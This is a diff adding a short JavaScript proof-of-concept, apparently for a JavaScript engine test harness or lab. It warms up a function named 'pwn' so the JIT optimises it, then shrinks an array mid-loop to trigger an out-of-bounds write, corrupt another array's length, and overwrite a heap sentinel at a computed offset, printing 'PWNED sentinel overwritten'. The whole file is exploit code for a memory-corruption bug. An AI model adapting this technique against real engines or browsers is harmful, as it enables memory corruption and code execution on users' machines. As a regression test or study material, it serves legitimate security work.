@@ -1,0 +1,25 @@
+
+function pwn(a, big, late) {
+  var n = a.length;
+  var t = 0;
+  for (var i = 0; i < n; i++) {
+    if (late == 1) { if (i == 0) { a.length = 1; w = [3,3,3,3]; } }
+    a[i] = big;
+    t = t + 1;
+  }
+  return t;
+}
+var w = [0];
+for (var k = 0; k < 60; k++) {
+  var warm = [9,9,9,9,9,9,9,9,9,9];
+  pwn(warm, 7, 0);
+}
+var prey = [9,9,9,9,9,9,9,9,9,9];
+pwn(prey, 1073741824, 1);
+
+if (w.length > 100000) {
+  var off = __heapSize() - 2 - (__arrayBase(w) + 2);
+  w[off] = 1337;
+  print("PWNED sentinel overwritten");
+}
+pwn([1,1,1], 7, 0);
